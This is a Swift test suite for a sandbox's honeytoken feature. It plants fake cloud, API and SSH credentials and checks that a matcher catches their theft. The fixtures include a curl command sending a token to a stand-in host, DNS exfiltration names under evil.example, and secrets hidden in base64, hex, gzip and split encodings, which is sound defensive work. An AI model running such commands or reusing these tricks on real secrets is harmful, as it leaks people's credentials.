import AirlockAnalysis
import AirlockFormats
@testable import AirlockProbe
@testable import AirlockSandbox
import AirlockTrace
import Foundation
import Testing
import AirlockTestSupport

/// Honeytokens without a sandbox: the planted values in their real formats, the matcher on bytes built here (every
/// encoding a thief uses, split, compressed, flooded), and the findings on synthetic detonations.
@Suite("Honeytokens: planting, matching, findings")
struct HoneytokenTests {
    static func world(home: String = "/home/mlsvc") -> HostWorld {
        var world = HostWorld(
            name: "test", hostname: "gpu-node-7",
            user: HostWorld.User(name: "mlsvc", uid: 1000, gid: 1000, home: home),
            environment: [HostWorld.Variable("PATH", "/usr/local/bin:/usr/bin:/bin")])
        Honeytokens.plant(in: &world)
        return world
    }

    static func token(_ world: HostWorld, _ name: String) -> Honeytoken {
        world.honeytokens.first { $0.name == name }!
    }

    static func env(_ world: HostWorld, _ name: String) -> String {
        world.environment.first { $0.name == name }!.value
    }

    static func file(_ world: HostWorld, _ relative: String) -> HostWorld.File {
        world.files.first { $0.path == world.user.home + "/" + relative }!
    }

    /// Runs host Python on `input`; its standard output.
    static func python(_ code: String, input: [UInt8] = []) throws -> String {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        p.arguments = ["-c", code]
        let inPipe = Pipe(), outPipe = Pipe()
        p.standardInput = inPipe
        p.standardOutput = outPipe
        try p.run()
        inPipe.fileHandleForWriting.write(Data(input))
        try inPipe.fileHandleForWriting.close()
        let out = outPipe.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        guard p.terminationStatus == 0 else { throw TestSupportError("python failed: \(code)") }
        return String(decoding: out, as: UTF8.self)
    }

    // MARK: Planting

    @Test("each credential in its real format, where its tools look, with their modes")
    func formats() throws {
        let w = HoneytokenTests.world()
        let hf = HoneytokenTests.env(w, "HF_TOKEN")
        #expect(hf.wholeMatch(of: /hf_[A-Za-z]{34}/) != nil)
        #expect(HoneytokenTests.file(w, ".cache/huggingface/token").contents == hf)
        #expect(HoneytokenTests.file(w, ".cache/huggingface/stored_tokens").contents.contains("hf_token = \(hf)"))
        #expect(
            HoneytokenTests.env(w, "OPENAI_API_KEY").wholeMatch(
                of: /sk-proj-[A-Za-z0-9_-]{74}T3BlbkFJ[A-Za-z0-9_-]{74}/) != nil)
        #expect(HoneytokenTests.env(w, "ANTHROPIC_API_KEY").wholeMatch(of: /sk-ant-api03-[A-Za-z0-9_-]{93}AA/) != nil)
        let keyId = HoneytokenTests.env(w, "AWS_ACCESS_KEY_ID"),
            secret = HoneytokenTests.env(w, "AWS_SECRET_ACCESS_KEY")
        #expect(keyId.wholeMatch(of: /AKIA[A-Z2-7]{16}/) != nil)
        #expect(secret.wholeMatch(of: /[A-Za-z0-9\/+]{40}/) != nil)
        let aws = HoneytokenTests.file(w, ".aws/credentials")
        #expect(aws.contents.contains("aws_access_key_id = \(keyId)\naws_secret_access_key = \(secret)"))
        #expect(aws.mode == 0o600)
        #expect(HoneytokenTests.file(w, ".aws/config").contents.contains("region = "))
        #expect(HoneytokenTests.env(w, "WANDB_API_KEY").wholeMatch(of: /[0-9a-f]{40}/) != nil)
        let github = HoneytokenTests.env(w, "GITHUB_TOKEN")
        #expect(github.wholeMatch(of: /ghp_[A-Za-z0-9]{36}/) != nil)
        // GitHub's checksum, computed independently: base62 of zlib's CRC-32 of the 30 random characters.
        let checksum = try HoneytokenTests.python(
            """
            import sys, zlib
            t = sys.stdin.read(); c = zlib.crc32(t[4:34].encode()); a = '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz'
            s = ''
            for _ in range(6): s = a[c % 62] + s; c //= 62
            print(s == t[34:])
            """, input: Array(github.utf8))
        #expect(checksum == "True\n")
        #expect(HoneytokenTests.file(w, ".git-credentials").contents == "https://mlsvc:\(github)@github.com\n")
        let netrc = HoneytokenTests.file(w, ".netrc").contents
        #expect(netrc.contains("machine huggingface.co\n  login mlsvc\n  password \(hf)"))
        #expect(netrc.contains("password \(github)"))
        let docker = try HoneytokenTests.python(
            """
            import sys, json, base64
            c = json.load(sys.stdin); print(base64.b64decode(c['auths']['https://index.docker.io/v1/']['auth']).decode())
            """, input: Array(HoneytokenTests.file(w, ".docker/config.json").contents.utf8))
        #expect(docker.wholeMatch(of: /mlsvc:dckr_pat_[A-Za-z0-9_-]{27}\n/) != nil)
        #expect(HoneytokenTests.file(w, ".kube/config").contents.contains("token: eyJ"))
        for path in [".ssh/id_ed25519", ".netrc", ".git-credentials", ".kube/config", ".docker/config.json"] {
            #expect(HoneytokenTests.file(w, path).mode == 0o600, "\(path)")
        }
        #expect(HoneytokenTests.file(w, ".ssh/id_ed25519.pub").mode == 0o644)
    }

    @Test("the SSH key parses as an OpenSSH ed25519 key whose public half is its own")
    func sshKeyParses() throws {
        let w = HoneytokenTests.world()
        let dir = NSTemporaryDirectory() + "airlock-ssh-\(UUID().uuidString.prefix(8))"
        try FileManager.default.createDirectory(atPath: dir, withIntermediateDirectories: true)
        defer { try? FileManager.default.removeItem(atPath: dir) }
        let key = dir + "/id_ed25519"
        try HoneytokenTests.file(w, ".ssh/id_ed25519").contents.write(toFile: key, atomically: true, encoding: .utf8)
        try FileManager.default.setAttributes([.posixPermissions: 0o600], ofItemAtPath: key)
        // ssh-keygen derives the public key from the private one: it must be the planted .pub.
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/ssh-keygen")
        p.arguments = ["-y", "-f", key]
        let out = Pipe()
        p.standardOutput = out
        try p.run()
        let derived = String(decoding: out.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        p.waitUntilExit()
        #expect(p.terminationStatus == 0)
        let pub = HoneytokenTests.file(w, ".ssh/id_ed25519.pub").contents
        #expect(derived.split(separator: " ").prefix(2) == pub.split(separator: " ").prefix(2))
    }

    @Test("every detonation's tokens are its own")
    func unique() {
        let a = HoneytokenTests.world(), b = HoneytokenTests.world()
        for token in a.honeytokens where !token.secrets.isEmpty {
            let other = HoneytokenTests.token(b, token.name)
            #expect(token.value != other.value, "\(token.name)")
            #expect(
                ExfiltrationMatcher(tokens: b.honeytokens).matches(
                    in: Array(a.honeytokens.map(\.value).joined(separator: " ").utf8)
                ).isEmpty)
        }
    }

    // MARK: Matching

    static func sent(_ bytes: [UInt8], _ world: HostWorld, name: String? = "collector.example") -> [Finding] {
        var result = SandboxResult(
            exitCode: 0, signal: nil, timedOut: false, stdout: [], stdoutDropped: 0, stderr: [], stderrDropped: 0,
            trace: [], traceDropped: 0, durationNs: 1)
        result.network = [
            NetworkExchange(transport: .tcp, name: name, address: "10.1.2.3", port: 80, bytes: bytes, phase: "load")
        ]
        return HoneytokenFindings.sent(result, tokens: world.honeytokens, policy: try! policy())
    }

    static func policy() throws -> VerdictPolicy {
        try VerdictPolicy.load("\(repositoryRoot)/Profiles/policy.json", for: try defaultProfile())
    }

    @Test("found as is and in every encoding thieves use, at every alignment", arguments: 0..<3)
    func encodings(prefix: Int) throws {
        let w = HoneytokenTests.world()
        let secret = HoneytokenTests.env(w, "AWS_SECRET_ACCESS_KEY")
        let lead = String(repeating: "x", count: prefix)
        let data = Data((lead + secret).utf8)
        let json = String(decoding: try JSONSerialization.data(withJSONObject: ["k": secret]), as: UTF8.self)
        let variants: [(String, String)] = [
            ("as is", "key=" + lead + secret),
            ("base64", data.base64EncodedString()),
            (
                "base64url",
                data.base64EncodedString().replacingOccurrences(of: "+", with: "-").replacingOccurrences(
                    of: "/", with: "_")
            ),
            ("hex", data.map { String(format: "%02x", $0) }.joined()),
            ("HEX", data.map { String(format: "%02X", $0) }.joined()),
            ("url", "q=" + (lead + secret).addingPercentEncoding(withAllowedCharacters: .alphanumerics)!),
            ("json", json),
        ]
        for (what, text) in variants {
            let found = HoneytokenTests.sent(Array("POST / HTTP/1.1\r\n\r\n\(text)".utf8), w)
            #expect(found.count == 1, "\(what): \(text)")
            guard let f = found.first else { continue }
            #expect(f.rule == "dynamic.exfiltration" && f.severity == .critical)
            let d = Dictionary(f.evidence.details, uniquingKeysWith: { a, _ in a })
            #expect(d["token"] == "AWS secret access key")
            #expect(d["destination"] == "tcp collector.example:80 (10.1.2.3)")
            #expect(d["planted"]?.contains("/home/mlsvc/.aws/credentials") == true)
        }
    }

    @Test("base32 and base64 across DNS labels and names, whatever the resolver did to the case")
    func dns() throws {
        let w = HoneytokenTests.world()
        let hf = HoneytokenTests.env(w, "HF_TOKEN")
        let b32 = try HoneytokenTests.python(
            "import sys, base64; print(base64.b32encode(sys.stdin.read().encode()).decode().rstrip('=').lower())",
            input: Array(hf.utf8)
        ).trimmingCharacters(in: .whitespacesAndNewlines)
        let b64 = Data(hf.utf8).base64EncodedString().replacingOccurrences(of: "=", with: "")
        for text in [b32, b64] {
            var result = SandboxResult(
                exitCode: 0, signal: nil, timedOut: false, stdout: [], stdoutDropped: 0, stderr: [], stderrDropped: 0,
                trace: [], traceDropped: 0, durationNs: 1)
            // One name, labels of 20; then several names of 12 characters each (below the window: only joined).
            let labels = stride(from: 0, to: text.count, by: 20).map {
                String(Array(text)[$0..<min($0 + 20, text.count)])
            }
            result.dnsQuestions = [
                DNSQuestion(
                    name: labels.joined(separator: ".").uppercased() + ".x.evil.example", type: "A", phase: "load")
            ]
            var found = HoneytokenFindings.sent(result, tokens: w.honeytokens, policy: try HoneytokenTests.policy())
            #expect(found.first?.evidence.details.first { $0.0 == "token" }?.1 == "Hugging Face token", "\(text)")
            result.dnsQuestions = stride(from: 0, to: text.count, by: 12).map {
                DNSQuestion(
                    name: String(Array(text)[$0..<min($0 + 12, text.count)]) + ".evil.example", type: "A",
                    phase: "probe")
            }
            found = HoneytokenFindings.sent(result, tokens: w.honeytokens, policy: try HoneytokenTests.policy())
            #expect(found.count == 1, "\(text) split over names")
            #expect(found.first?.message.contains("DNS questions for *.evil.example") == true)
        }
    }

    @Test("a value cut every few characters by dashes, dots, spaces or line breaks")
    func separators() throws {
        let w = HoneytokenTests.world()
        let hf = Array(HoneytokenTests.env(w, "HF_TOKEN"))
        for (size, separator) in [(4, "-"), (6, "."), (5, " "), (7, "\r\n"), (3, "\",\"")] {
            let cut = stride(from: 0, to: hf.count, by: size).map { String(hf[$0..<min($0 + size, hf.count)]) }
            let text = "data=" + cut.joined(separator: separator) + "&x=1"
            let found = HoneytokenTests.sent(Array(text.utf8), w)
            #expect(found.count == 1, "\(text)")
            let d = Dictionary(found.first?.evidence.details ?? [], uniquingKeysWith: { a, _ in a })
            #expect(d["encoding"] == "as is, cut by separators")
            #expect(
                d["quote"]?.hasPrefix("data=hf") == true && d["quote"]?.contains("»") == true, "\(d["quote"] ?? "")")
        }
    }

    @Test("a value sent as UTF-16 (a NUL after every character)")
    func utf16() {
        let w = HoneytokenTests.world()
        let key = Array(HoneytokenTests.env(w, "ANTHROPIC_API_KEY").utf8)
        let found = HoneytokenTests.sent([0xFF, 0xFE] + key.flatMap { [$0, 0] }, w)
        #expect(found.map { $0.evidence.details.first { $0.0 == "token" }?.1 } == ["Anthropic API key"])
    }

    @Test("gzip and zlib bodies are inflated (bounded) and searched")
    func compressed() throws {
        let w = HoneytokenTests.world()
        let file = HoneytokenTests.file(w, ".aws/credentials").contents
        for how in [
            "gzip.compress(d)", "zlib.compress(d)", "b'{\"blob\": \"' + base64.b64encode(gzip.compress(d)) + b'\"}'",
        ] {
            let body = try HoneytokenTests.python(
                "import sys, gzip, zlib, base64; d = sys.stdin.buffer.read(); sys.stdout.write((\(how)).hex())",
                input: Array(file.utf8))
            var bytes = Array("POST /u HTTP/1.1\r\nContent-Encoding: gzip\r\n\r\n".utf8)
            var i = body.startIndex
            while i < body.endIndex {
                let j = body.index(i, offsetBy: 2)
                bytes.append(UInt8(body[i..<j], radix: 16)!)
                i = j
            }
            let found = HoneytokenTests.sent(bytes, w)
            #expect(
                Set(found.compactMap { $0.evidence.details.first { $0.0 == "token" }?.1 }) == [
                    "AWS access key id", "AWS secret access key",
                ], "\(how)")
            #expect(found.allSatisfy { $0.message.contains("body") })
        }
    }

    @Test("the SSH key is found in the whole file sent, JSON-escaped or base64'd, and its seed sent in hex")
    func sshKey() throws {
        let w = HoneytokenTests.world()
        let key = HoneytokenTests.file(w, ".ssh/id_ed25519").contents
        let json = String(decoding: try JSONSerialization.data(withJSONObject: ["k": key]), as: UTF8.self)
        for text in [key, json, Data(("k=" + key).utf8).base64EncodedString()] {
            let found = HoneytokenTests.sent(Array(text.utf8), w)
            #expect(
                found.map { $0.evidence.details.first { $0.0 == "token" }?.1 } == ["SSH private key (ed25519)"],
                "\(text.prefix(40))")
        }
        let seed = HoneytokenTests.token(w, "SSH private key (ed25519)").secrets[0]
        #expect(HoneytokenTests.sent(Array(seed.map { String(format: "%02x", $0) }.joined().utf8), w).count == 1)
        // What every ed25519 key shares (the header, the public half's type) is not a match.
        let pub = HoneytokenTests.file(w, ".ssh/id_ed25519.pub").contents
        #expect(HoneytokenTests.sent(Array(pub.utf8), w).isEmpty)
    }

    @Test("nothing in ordinary traffic, another world's tokens or a flood of near misses")
    func negatives() throws {
        let w = HoneytokenTests.world()
        #expect(
            HoneytokenTests.sent(Array("GET /api/models/bert-base HTTP/1.1\r\nHost: huggingface.co\r\n\r\n".utf8), w)
                .isEmpty)
        let other = HoneytokenTests.world()
        #expect(HoneytokenTests.sent(Array(other.files.map(\.contents).joined().utf8), w).isEmpty)
        // 15 characters of the token, over and over (each a window short), then the token itself once.
        let secret = Array(HoneytokenTests.env(w, "AWS_SECRET_ACCESS_KEY").utf8)
        var flood: [UInt8] = []
        while flood.count < 4 << 20 { flood += secret.prefix(15) }
        #expect(HoneytokenTests.sent(flood, w).isEmpty)
        let found = HoneytokenTests.sent(flood + secret, w)
        #expect(found.count == 1)
        #expect(found.first?.evidence.details.first { $0.0 == "matchOffset" }?.1 == String(flood.count))
    }

    // MARK: Findings

    static func event(
        _ seq: Int, _ syscall: String, _ path: String, phase: String, rule: TraceRule = .honeytoken,
        action: TraceEvent.Action = .allowed, argv: [String]? = nil
    ) -> TraceEvent {
        var a = TraceArguments()
        a.path = path
        a.argv = argv
        return TraceEvent(
            seq: seq, timeNs: 1, pid: 2, hostPid: 100, syscall: syscall, action: action,
            errno: action == .allowed ? nil : "EPERM", rule: rule, phase: phase, args: a, performed: nil)
    }

    static func detonation(_ trace: [TraceEvent], world: HostWorld?, stderr: String = "") -> Detonation {
        let result = SandboxResult(
            exitCode: 0, signal: nil, timedOut: false, stdout: [], stdoutDropped: 0, stderr: Array(stderr.utf8),
            stderrDropped: 0, trace: trace, traceDropped: 0, durationNs: 1)
        var d = Detonation(
            argv: ["python3"], phases: [.startup, .load, .probe, .end], result: result, durationMs: 1,
            linePrefix: "svc: ")
        d.world = world
        return d
    }

    /// The token findings alone (a synthetic detonation has no harness lines: it also ends as an early exit).
    static func tokenFindings(_ d: Detonation, _ policy: VerdictPolicy) -> [Finding] {
        DynamicRules.findings(d, policy: policy).filter {
            $0.rule == "dynamic.secrets" || $0.rule == "dynamic.exfiltration"
        }
    }

    @Test("a planted file read while loading is dynamic.secrets naming the tokens; start-up reads are not")
    func reads() throws {
        let w = HoneytokenTests.world(), policy = try HoneytokenTests.policy()
        let trace = [
            HoneytokenTests.event(1, "openat", "/home/mlsvc/.netrc", phase: "startup"),
            HoneytokenTests.event(2, "openat", "/home/mlsvc/.aws/credentials", phase: "load"),
            HoneytokenTests.event(3, "openat", "/home/mlsvc/.aws/credentials", phase: "load"),
            HoneytokenTests.event(4, "openat", "/proc/self/environ", phase: "probe"),
            HoneytokenTests.event(5, "openat", "/home/mlsvc/.ssh", phase: "load"),
        ]
        let findings = DynamicRules.findings(HoneytokenTests.detonation(trace, world: w), policy: policy)
        let secrets = findings.filter { $0.rule == "dynamic.secrets" }
        #expect(secrets.count == 3)
        #expect(secrets.allSatisfy { $0.severity == .critical && $0.source == .dynamic })
        #expect(secrets[0].message.contains("/home/mlsvc/.aws/credentials (AWS access key id, AWS secret access key)"))
        #expect(secrets[0].evidence.seq == [2, 3])
        #expect(
            secrets[1].message.contains("HF_TOKEN")
                || secrets[1].evidence.details.contains { $0.1.contains("$HF_TOKEN") })
        #expect(secrets[2].message.contains("folder"))
        #expect(Verdict.decide(findings: findings, analysed: true) == .malicious)
        // A home written with a trailing slash plants the same paths, as the trace names them.
        let slashed = DynamicRules.findings(
            HoneytokenTests.detonation(trace, world: HoneytokenTests.world(home: "/home/mlsvc/")), policy: policy)
        #expect(slashed.filter { $0.rule == "dynamic.secrets" }.map(\.message) == secrets.map(\.message))
        // Without a world the same trace says nothing about tokens.
        #expect(HoneytokenTests.tokenFindings(HoneytokenTests.detonation(trace, world: nil), policy).isEmpty)
    }

    @Test("a token in a refused exec's arguments or in the logs is dynamic.exfiltration; a benign run has none")
    func argvAndLogs() throws {
        let w = HoneytokenTests.world(), policy = try HoneytokenTests.policy()
        let hf = HoneytokenTests.env(w, "HF_TOKEN")
        let exec = HoneytokenTests.event(
            7, "execve", "/bin/sh", phase: "load", rule: .notify("exec"), action: .denied,
            argv: ["sh", "-c", "curl -s https://x.example/?t=\(hf)"])
        var findings = DynamicRules.findings(HoneytokenTests.detonation([exec], world: w), policy: policy)
        let ex = findings.first { $0.rule == "dynamic.exfiltration" }
        #expect(ex?.evidence.seq == [7])
        #expect(ex?.message.contains("the arguments of execve") == true)
        #expect(ex?.message.contains("Hugging Face token") == true)
        let key = HoneytokenTests.env(w, "OPENAI_API_KEY")
        findings = DynamicRules.findings(
            HoneytokenTests.detonation([], world: w, stderr: "debug: " + Data(key.utf8).base64EncodedString()),
            policy: policy)
        findings = findings.filter { $0.rule.hasPrefix("dynamic.exf") || $0.rule == "dynamic.secrets" }
        #expect(findings.map(\.rule) == ["dynamic.exfiltration"])
        #expect(findings.first?.message.contains("OpenAI API key") == true)
        #expect(findings.allSatisfy { $0.message.contains("standard error") })
        let benign = HoneytokenTests.event(
            8, "openat", "/usr/lib/python3.11/json/__init__.py", phase: "load", rule: .notifyDefault)
        #expect(
            HoneytokenTests.tokenFindings(HoneytokenTests.detonation([benign], world: w, stderr: "loaded\n"), policy)
                .isEmpty)
    }

    // MARK: The supervisor's side

    @Test("reads of planted files and their folders are allowed; writes, and other secrets, are refused as before")
    func notifyPolicy() throws {
        let w = HoneytokenTests.world()
        let policy = NotifyPolicy(profile: try defaultProfile(), world: w)
        func decide(_ path: String, flags: UInt64 = 0) -> Decision {
            var a = TraceArguments()
            a.path = path
            return policy.decide("openat", [UInt64(bitPattern: -100), 0, flags, 0, 0, 0], a)
        }
        #expect(decide("/home/mlsvc/.aws/credentials").rule == .honeytoken)
        #expect(decide("/home/mlsvc/.aws/credentials").action == .allowed)
        #expect(decide("/home/mlsvc/.ssh").rule == .honeytoken)
        #expect(decide("/proc/self/environ").rule == .honeytoken)
        #expect(decide("/proc/thread-self/environ").rule == .honeytoken)
        // Another process's environment (PID 1 is a copy of the supervisor) stays refused.
        #expect(decide("/proc/1/environ").action == .denied)
        #expect(decide("/proc/1/task/1/environ").action == .denied)
        #expect(decide("/home/mlsvc/.aws/credentials", flags: UInt64(O_WRONLY)).action == .denied)
        #expect(decide("/home/mlsvc/.ssh/id_rsa").action == .denied)
        #expect(decide("/home/mlsvc").action == .denied)
        #expect(decide("/etc/shadow").action == .denied)
        #expect(decide("/proc/self/mem").action == .denied)
        let plain = NotifyPolicy(profile: try defaultProfile())
        var a = TraceArguments()
        a.path = "/proc/self/environ"
        #expect(plain.decide("openat", [0, 0, 0, 0, 0, 0], a).action == .denied)
    }
}
